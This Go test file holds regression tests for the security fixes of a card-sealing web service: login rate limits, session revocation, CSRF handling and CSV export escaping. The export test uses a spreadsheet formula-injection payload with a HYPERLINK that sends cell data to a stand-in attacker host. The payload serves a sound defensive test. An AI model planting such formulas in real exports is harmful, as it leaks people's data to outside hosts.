package api

import (
	"bytes"
	"context"
	"crypto/tls"
	"encoding/csv"
	"errors"
	"net/http"
	"net/http/httptest"
	"net/url"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/jilin-health/cardseal/staff"
)

// Regression tests of issue 12's low and info findings on the staff and
// HTTP side (L1–L6, I2, I3). Each failed on the code before its fix.

// loginFrom logs in through the JSON API from a client address.
func (v *env) loginFrom(ip, username, password string) *resp {
	v.t.Helper()
	b := mustJSON(v.t.(*testing.T), map[string]string{"username": username, "password": password})
	req := httptest.NewRequest(http.MethodPost, "/api/v1/login", bytes.NewReader(b))
	req.RemoteAddr = ip + ":40000"
	req.Header.Set("Content-Type", "application/json")
	return v.serve(req)
}

func retryAfter(t *testing.T, r *resp) time.Duration {
	t.Helper()
	n, err := strconv.Atoi(r.Header().Get("Retry-After"))
	if err != nil || n < 1 {
		t.Fatalf("Retry-After %q", r.Header().Get("Retry-After"))
	}
	return time.Duration(n) * time.Second
}

// L1: resetting a password or disabling a user ends the user's sessions.
func TestAccountChangesEndSessions(t *testing.T) {
	v := newEnv(t, Options{})
	ctx := context.Background()
	login := func() string {
		t.Helper()
		r := v.loginFrom("192.0.2.10", "220102001", testPassword)
		if r.Code != http.StatusOK {
			t.Fatalf("login: %d %s", r.Code, r.body)
		}
		var lr LoginResponse
		r.json(t, &lr)
		return lr.Token
	}
	u, err := v.staff.User(ctx, "220102001")
	if err != nil {
		t.Fatal(err)
	}
	by := staff.Admin{Name: "test"}

	tok := login()
	if err := v.staff.ResetPassword(ctx, by, u, "a new and long passphrase"); err != nil {
		t.Fatal(err)
	}
	expectProblem(t, v.do(http.MethodGet, "/api/v1/me", tok, "", nil), http.StatusUnauthorized, "unauthorized")
	if _, err := v.st.GetSession(ctx, staff.HashToken(tok)); !errors.Is(err, staff.ErrNotFound) {
		t.Errorf("the session outlived the password reset: %v", err)
	}
	if err := v.staff.ResetPassword(ctx, by, u, testPassword); err != nil {
		t.Fatal(err)
	}

	// Disabling ends the session for good: enabling the account again
	// does not bring it back.
	tok = login()
	if err := v.staff.SetDisabled(ctx, by, u, true, "left the office"); err != nil {
		t.Fatal(err)
	}
	if err := v.staff.SetDisabled(ctx, by, u, false, "came back"); err != nil {
		t.Fatal(err)
	}
	expectProblem(t, v.do(http.MethodGet, "/api/v1/me", tok, "", nil), http.StatusUnauthorized, "unauthorized")
	if _, err := v.st.GetSession(ctx, staff.HashToken(tok)); !errors.Is(err, staff.ErrNotFound) {
		t.Errorf("the session outlived disabling the account: %v", err)
	}
	// Another user's session is untouched.
	other := v.loginFrom("192.0.2.10", "220102", testPassword)
	var lr LoginResponse
	other.json(t, &lr)
	if err := v.staff.SetDisabled(ctx, by, u, true, "again"); err != nil {
		t.Fatal(err)
	}
	if r := v.do(http.MethodGet, "/api/v1/me", lr.Token, "", nil); r.Code != http.StatusOK {
		t.Errorf("another user's session ended: %d", r.Code)
	}
}

// L2: a stranger's wrong ID numbers delay the stranger, with a delay
// that grows, and never the holder trying from another client.
func TestStrangerCannotLockHolderOut(t *testing.T) {
	v := newEnv(t, Options{})
	c := v.newCard()
	v.issue(c.ID)
	tok := v.cardToken(c.ID)
	download := func(ip, id string) *resp {
		req := httptest.NewRequest(http.MethodPost, "/c/"+tok, strings.NewReader("id_number="+id))
		req.Header.Set("Content-Type", "application/x-www-form-urlencoded")
		req.RemoteAddr = ip + ":1"
		return v.serve(req)
	}
	track := func(ip, id string) *resp {
		req := httptest.NewRequest(http.MethodGet, "/api/v1/applications/"+c.Number+"?id_number="+id, nil)
		req.RemoteAddr = ip + ":1"
		return v.serve(req)
	}
	const stranger, holder = "198.51.100.66", "203.0.113.5"
	for name, try := range map[string]func(ip, id string) *resp{"download": download, "track": track} {
		t.Run(name, func(t *testing.T) {
			// The stranger tries until refused, then waits out each delay
			// and fails again: every delay is longer than the last.
			refused := 0
			for i := 0; i < 20 && refused == 0; i++ {
				if r := try(stranger, "220102199003071234"); r.Code == http.StatusTooManyRequests {
					refused = i + 1
				} else if r.Code != http.StatusForbidden && r.Code != http.StatusNotFound {
					t.Fatalf("wrong ID number %d: %d %s", i+1, r.Code, r.body)
				}
			}
			if refused < 2 {
				t.Fatalf("stranger refused at attempt %d, want a delay after a few failures", refused)
			}
			var last time.Duration
			for round := 0; round < 3; round++ {
				r := try(stranger, "220102199003071234")
				if r.Code != http.StatusTooManyRequests {
					t.Fatalf("round %d: stranger during the delay: %d", round, r.Code)
				}
				wait := retryAfter(t, r)
				if wait <= last {
					t.Fatalf("round %d: delay %v after %v: not growing", round, wait, last)
				}
				last = wait
				// The holder is never held up by the stranger.
				if r := try(holder, "220102199208152346"); r.Code != http.StatusOK {
					t.Fatalf("round %d: holder from another client: %d %s", round, r.Code, r.body)
				}
				// Even the right ID number waits while the stranger's
				// client is delayed.
				if r := try(stranger, "220102199003071235"); r.Code != http.StatusTooManyRequests {
					t.Fatalf("round %d: right ID number from the delayed client: %d", round, r.Code)
				}
				v.clock.Add(wait)
				if r := try(stranger, "220102199003071234"); r.Code != http.StatusForbidden && r.Code != http.StatusNotFound {
					t.Fatalf("round %d: after the delay: %d", round, r.Code)
				}
			}
			// After the delay a right answer goes through and clears the
			// count.
			v.clock.Add(2 * last)
			if r := try(stranger, "220102199003071235"); r.Code != http.StatusOK {
				t.Fatalf("right ID number after the delay: %d %s", r.Code, r.body)
			}
			if r := try(stranger, "220102199003071234"); r.Code == http.StatusTooManyRequests {
				t.Fatal("a success did not clear the count")
			}
		})
	}
}

// L3: wrong passwords from one client delay that client only, with a
// growing delay; nobody elsewhere is locked out.
func TestLoginDelayPerClient(t *testing.T) {
	v := newEnv(t, Options{})
	const attacker, owner = "198.51.100.66", "203.0.113.5"
	refused := 0
	for i := 0; i < 20 && refused == 0; i++ {
		r := v.loginFrom(attacker, "220102001", "wrong password")
		switch r.Code {
		case http.StatusTooManyRequests:
			refused = i + 1
		case http.StatusUnauthorized:
		default:
			t.Fatalf("attempt %d: %d %s", i+1, r.Code, r.body)
		}
	}
	if refused < 2 {
		t.Fatalf("attacker refused at attempt %d, want a delay after a few failures", refused)
	}
	if r := v.loginFrom(owner, "220102001", testPassword); r.Code != http.StatusOK {
		t.Fatalf("owner from another client after the attacker's failures: %d %s", r.Code, r.body)
	}
	var last time.Duration
	for round := 0; round < 3; round++ {
		r := v.loginFrom(attacker, "220102001", testPassword)
		if r.Code != http.StatusTooManyRequests {
			t.Fatalf("round %d: right password from the delayed client: %d", round, r.Code)
		}
		wait := retryAfter(t, r)
		if wait <= last {
			t.Fatalf("round %d: delay %v after %v: not growing", round, wait, last)
		}
		last = wait
		v.clock.Add(wait)
		expectProblem(t, v.loginFrom(attacker, "220102001", "wrong password"), http.StatusUnauthorized, "bad-credentials")
	}
	// An unknown user is delayed exactly like a real one: the delay tells
	// nothing about which usernames exist.
	for i := 0; i < refused-1; i++ {
		expectProblem(t, v.loginFrom(attacker, "no-such-user", "wrong password"), http.StatusUnauthorized, "bad-credentials")
	}
	expectProblem(t, v.loginFrom(attacker, "no-such-user", "wrong password"), http.StatusTooManyRequests, "rate-limited")
	v.clock.Add(2 * last)
	if r := v.loginFrom(attacker, "220102001", testPassword); r.Code != http.StatusOK {
		t.Fatalf("after the delay: %d %s", r.Code, r.body)
	}
}

// L3: the login takes only application/json, so a form or a text/plain
// POST from another site's page cannot send password guesses.
func TestLoginRequiresJSON(t *testing.T) {
	v := newEnv(t, Options{})
	body := mustJSON(t, map[string]string{"username": "220102001", "password": testPassword})
	for _, ct := range []string{"text/plain", "text/plain;charset=UTF-8", "application/x-www-form-urlencoded", "multipart/form-data; boundary=x", "", "application/jsonx"} {
		expectProblem(t, v.do(http.MethodPost, "/api/v1/login", "", ct, body), http.StatusUnsupportedMediaType, "unsupported-media-type")
	}
	for _, ct := range []string{"application/json", "application/json; charset=utf-8", "Application/JSON"} {
		if r := v.do(http.MethodPost, "/api/v1/login", "", ct, body); r.Code != http.StatusOK {
			t.Errorf("%q: %d %s", ct, r.Code, r.body)
		}
	}
}

// L4: CSV cells that a spreadsheet would run as a formula are quoted.
func TestExportDefusesFormulas(t *testing.T) {
	v := newEnv(t, Options{})
	hostile := `=HYPERLINK("http://evil.example/?"&A2,"点此")`
	app := bytes.Replace(exampleApplicant(t), []byte(`"J220102-2024-001234"`), mustJSON(t, hostile), 1)
	r := v.do(http.MethodPost, "/api/v1/cards", v.session("220102001001"), "application/json", app)
	if r.Code != http.StatusCreated {
		t.Fatalf("create: %d %s", r.Code, r.body)
	}
	var c CardView
	r.json(t, &c)
	v.issue(c.ID)
	r = v.do(http.MethodGet, "/api/v1/export?format=csv", v.session("220102"), "", nil)
	if r.Code != http.StatusOK {
		t.Fatalf("export: %d %s", r.Code, r.body)
	}
	rows, err := csv.NewReader(bytes.NewReader(r.body)).ReadAll()
	if err != nil || len(rows) != 2 {
		t.Fatalf("export: %d rows, %v", len(rows), err)
	}
	col := -1
	for i, h := range rows[0] {
		if h == "marriage_cert_number" {
			col = i
		}
	}
	if got := rows[1][col]; got != "'"+hostile {
		t.Errorf("cert number cell %q, want %q", got, "'"+hostile)
	}
	for i, cell := range rows[1] {
		if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
			t.Errorf("column %s starts with %q", rows[0][i], cell[:1])
		}
	}
	// The JSON export carries the value as it is: JSON is not a formula.
	if !bytes.Contains(v.do(http.MethodGet, "/api/v1/export?format=json", v.session("220102"), "", nil).body, mustJSON(t, hostile)[:10]) {
		t.Error("the JSON export altered the value")
	}
	for in, want := range map[string]string{
		"=1+1": "'=1+1", "+1": "'+1", "-1": "'-1", "@SUM(A1)": "'@SUM(A1)", "\tx": "'\tx", "\rx": "'\rx",
		"": "", "李四": "李四", "2026-01-02": "2026-01-02", "a=b": "a=b",
	} {
		if got := csvCell(in); got != want {
			t.Errorf("csvCell(%q) = %q, want %q", in, got, want)
		}
	}
}

// L5: over TLS, and when the public URL is https (TLS ended at a proxy),
// the browser is told to use HTTPS only.
func TestStrictTransportSecurity(t *testing.T) {
	v := newEnv(t, Options{})
	req := httptest.NewRequest(http.MethodGet, "/guide", nil)
	if r := v.serve(req); r.Header().Get("Strict-Transport-Security") != "" {
		t.Errorf("HSTS over plain HTTP: %q", r.Header().Get("Strict-Transport-Security"))
	}
	req = httptest.NewRequest(http.MethodGet, "/guide", nil)
	req.TLS = &tls.ConnectionState{}
	if got := v.serve(req).Header().Get("Strict-Transport-Security"); !strings.HasPrefix(got, "max-age=31536000") {
		t.Errorf("HSTS over TLS: %q", got)
	}
	proxied := newEnv(t, Options{HTTPS: true})
	for _, path := range []string{"/guide", "/api/v1/verify/AAAA", "/nothing"} {
		if got := proxied.do(http.MethodGet, path, "", "", nil).Header().Get("Strict-Transport-Security"); !strings.HasPrefix(got, "max-age=31536000") {
			t.Errorf("%s behind a TLS proxy: HSTS %q", path, got)
		}
	}
}

// L6: a console cookie is no bearer token and a bearer token no console
// cookie.
func TestSessionKindsApart(t *testing.T) {
	v := newEnv(t, Options{})
	ck, _ := v.consoleLogin(t, "220102001001", testPassword)
	if ck == nil {
		t.Fatal("no console session")
	}
	expectProblem(t, v.do(http.MethodGet, "/api/v1/me", ck.Value, "", nil), http.StatusUnauthorized, "unauthorized")
	r := v.loginFrom("192.0.2.10", "220102001001", testPassword)
	var lr LoginResponse
	r.json(t, &lr)
	req := httptest.NewRequest(http.MethodGet, "/console", nil)
	req.AddCookie(&http.Cookie{Name: sessionCookie, Value: lr.Token})
	if r := v.serve(req); r.Code != http.StatusSeeOther || !strings.HasPrefix(r.Header().Get("Location"), consoleLoginURL) {
		t.Errorf("bearer token as a console cookie: %d %q", r.Code, r.Header().Get("Location"))
	}
	// Each still works where it belongs.
	if r := v.do(http.MethodGet, "/api/v1/me", lr.Token, "", nil); r.Code != http.StatusOK {
		t.Errorf("bearer token: %d", r.Code)
	}
	req = httptest.NewRequest(http.MethodGet, "/console", nil)
	req.AddCookie(ck)
	if r := v.serve(req); r.Code != http.StatusOK {
		t.Errorf("console cookie: %d", r.Code)
	}
}

// L6: sealing through the JSON API needs the caller's password again, as
// the console does.
func TestAPISealNeedsPassword(t *testing.T) {
	v := newEnv(t, Options{})
	c := v.newCard()
	tok := v.session("220102001001")
	path := "/api/v1/cards/" + c.ID + "/seal"
	expectProblem(t, v.do(http.MethodPost, path, tok, "", nil), http.StatusUnsupportedMediaType, "unsupported-media-type")
	expectProblem(t, v.do(http.MethodPost, path, tok, "application/json", []byte(`{}`)), http.StatusUnauthorized, "bad-credentials")
	expectProblem(t, v.postJSON(path, tok, map[string]string{"password": "wrong password"}), http.StatusUnauthorized, "bad-credentials")
	expectProblem(t, v.do(http.MethodPost, path, tok, "text/plain", mustJSON(t, map[string]string{"password": testPassword})), http.StatusUnsupportedMediaType, "unsupported-media-type")
	if n := v.sealCount(c.ID); n != 0 {
		t.Fatalf("%d seals after refused attempts", n)
	}
	if r := v.postJSON(path, tok, map[string]string{"password": testPassword}); r.Code != http.StatusOK {
		t.Fatalf("seal with the password: %d %s", r.Code, r.body)
	}
	// The step-up refuses another user's password.
	if r := v.postJSON(path, v.session("220102001"), map[string]string{"password": "not the township's"}); r.Code != http.StatusUnauthorized {
		t.Fatalf("township seal with a wrong password: %d", r.Code)
	}
}

func (v *env) sealCount(id string) int {
	v.t.Helper()
	seals, err := v.st.Seals(context.Background(), id)
	if err != nil {
		v.t.Fatal(err)
	}
	return len(seals)
}

// I2: the metrics are not on the public listener by default; with a
// token configured they are served there to scrapes that carry it.
func TestMetricsNotPublic(t *testing.T) {
	v := newEnv(t, Options{})
	expectProblem(t, v.do(http.MethodGet, "/metrics", "", "", nil), http.StatusNotFound, "not-found")
	if m := v.metrics(); !strings.Contains(m, "cardseal_http_requests_total") {
		t.Errorf("the operator's handler lacks the request counts:\n%.300s", m)
	}

	const token = "a long random scrape token"
	w := newEnv(t, Options{MetricsToken: token})
	for _, auth := range []string{"", "Bearer ", "Bearer wrong", "Basic " + token, "Bearer " + token + "x"} {
		expectProblem(t, w.serve(httptestRequest(http.MethodGet, "/metrics", auth)), http.StatusUnauthorized, "unauthorized")
	}
	r := w.serve(httptestRequest(http.MethodGet, "/metrics", "Bearer "+token))
	if r.Code != http.StatusOK || !strings.Contains(r.Body.String(), "cardseal_http_requests_total") {
		t.Fatalf("metrics with the token: %d", r.Code)
	}
}

// I3: the console's CSRF token and the seal password count only in the
// POST body, never in the query string (which ends up in logs, history
// and Referer headers).
func TestConsoleSecretsOnlyFromBody(t *testing.T) {
	v := newEnv(t, Options{})
	ck, _ := v.consoleLogin(t, "220102001001", testPassword)
	c := v.newCard()
	post := func(query, body url.Values) *resp {
		req := httptest.NewRequest(http.MethodPost, "/console/cards/"+c.ID+"/seal?"+query.Encode(), strings.NewReader(body.Encode()))
		req.RemoteAddr = "192.0.2.10:40000"
		req.Header.Set("Content-Type", "application/x-www-form-urlencoded")
		req.AddCookie(ck)
		return v.serve(req)
	}
	csrf := csrfToken(ck.Value)
	if r := post(url.Values{"csrf": {csrf}}, url.Values{"password": {testPassword}}); r.Code != http.StatusForbidden {
		t.Errorf("CSRF token in the query string: %d", r.Code)
	}
	if r := post(url.Values{"password": {testPassword}}, url.Values{"csrf": {csrf}}); r.Code != http.StatusUnauthorized {
		t.Errorf("password in the query string: %d", r.Code)
	}
	if n := v.sealCount(c.ID); n != 0 {
		t.Fatalf("sealed with secrets from the query string (%d seals)", n)
	}
	if r := post(nil, url.Values{"password": {testPassword}, "csrf": {csrf}}); r.Code != http.StatusSeeOther {
		t.Fatalf("seal with both in the body: %d %s", r.Code, r.body)
	}
}
